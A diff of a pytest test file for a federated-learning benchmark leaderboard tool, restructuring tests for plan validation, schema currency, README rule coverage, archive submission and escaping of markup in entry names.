-            "needs a protocol that sends bits",
-        ),
-    ],
-)
-def test_a_plan_that_cannot_be_is_refused(track: str, system: dict[str, str], message: str) -> None:
-    with pytest.raises(ConfigError, match=message):
-        plan(versions(BOARD)[1], track, system)
-
-
-def test_rules_that_ask_for_an_attack_that_does_not_fit_are_no_plan() -> None:
-    rules = Rules.model_validate(RULES_1 | {"ensemble": {"SignBits": ["none", "rank-reversal"]}})
-    with pytest.raises(ConfigError, match=r"must fit, got .*rank-reversal"):
-        plan(rules, "tiny", {"protocol": "signsgd"})
+def test_a_plan_that_cannot_be_is_refused() -> None:
+    misfit = Rules.model_validate(RULES_1 | {"ensemble": {"SignBits": ["none", "rank-reversal"]}})
+    bits = {"protocol": "fsl", "mechanism": "randomized-response"}
+    for rules, track, system, message in (
+        (RULES_OF, "cifar", {}, "--track must be one of tiny, got 'cifar'"),
+        (RULES_OF, "tiny", {"protocol": "fls"}, "did you mean"),
+        (versions(BOARD)[1], "digits", bits, "needs a protocol that sends bits"),
+        (misfit, "tiny", {"protocol": "signsgd"}, r"must fit, got .*rank-reversal"),
+    ):
+        with pytest.raises(ConfigError, match=message):
+            plan(rules, track, system)
 
 
 def test_records_find_their_track_by_their_data() -> None:
@@ -1163,13 +1050,14 @@ def test_records_find_their_track_by_their_data() -> None:
     assert infer(runs(), RULES_OF, "open") == "digits"
 
 
-def test_the_schemas_in_the_repository_are_current() -> None:
-    for name, text in boards.schemas().items():
-        written = (BOARD / "schema" / name).read_text()
-        assert written == text, "run: fedbench leaderboard schema"
+def test_the_schemas_in_the_repository_are_current(tmp_path: Path, command: Command) -> None:
+    assert command("leaderboard", "schema", "--out", tmp_path)[0] == 0
+    written = {path.name: path.read_text() for path in tmp_path.iterdir()}
+    for name, text in written.items():
+        assert (BOARD / "schema" / name).read_text() == text, "run: fedbench leaderboard schema"
         assert json.loads(text)["additionalProperties"] is False
-    required = json.loads(boards.schemas()["entry.json"])["required"]
-    assert set(required) == set(Entry.model_fields)
+    assert set(written) == {path.name for path in (BOARD / "schema").glob("*.json")}
+    assert set(json.loads(written["entry.json"])["required"]) == set(Entry.model_fields)
 
 
 @pytest.mark.slow
@@ -1178,11 +1066,13 @@ def test_the_board_of_the_repository_is_good() -> None:
     assert {f.rule for one in checked for f in one.findings if f.severity == "error"} == set()
 
 
-def test_every_rule_is_explained() -> None:
-    text = (BOARD / "README.md").read_text()
-    names = {name.partition(":")[0] for name in SOUND | RULES | NOTICES}
+def test_every_rule_is_tried_here_and_explained() -> None:
+    families = {name.partition(":")[0] for name in SOUND | RULES}
+    assert families == {rule.partition(":")[0] for rule, *_ in WRONG.values()}
+    assert set(NOTICES) == set(DOUBTED)
+    names = families | set(NOTICES) | {"duplicate", "growth", "rules", "published"}
     names |= {name for rules, _ in TAMPERED.values() for name in rules}
-    names |= {"duplicate", "growth", "rules", "published"}
+    text = (BOARD / "README.md").read_text()
     assert {name for name in names if not re.search(f"`{name}[`:]", text)} == set()
 
 
@@ -1245,9 +1135,7 @@ def test_records_can_come_as_the_archive_of_an_entry(
     board: Path, tmp_path: Path, leaderboard: Command
 ) -> None:
     path = kept(board)
-    other = tmp_path / "other"
-    (other / "rules").mkdir(parents=True)
-    (other / "rules" / "1.toml").write_text(tomli_w.dumps(RULES_1))
+    other = with_rules(tmp_path / "other")
     packed = str(boards.archive(path))
     assert leaderboard("submit", packed, *WHO, "--board", str(other))[0] == 0
     copy = other / path.relative_to(board)
@@ -1304,11 +1192,6 @@ def test_a_name_with_markup_is_printed_as_it_is(
     assert r"A \[red\]\|\<b\>name\</b\>" in leaderboard("rank", board, "--format", "md")[1]
     poor = leaderboard("rank", board, "--view", "equal-bits", "--bits", "4")[1]
     assert "n/a" in poor
-
-
-def test_schemas_are_written_where_one_asks(tmp_path: Path, leaderboard: Command) -> None:
-    assert leaderboard("schema", "--out", tmp_path)[0] == 0
-    assert {p.name for p in tmp_path.iterdir()} == set(boards.schemas()) != set()
 
 
 def table(*entries: Entry) -> RankingTable:
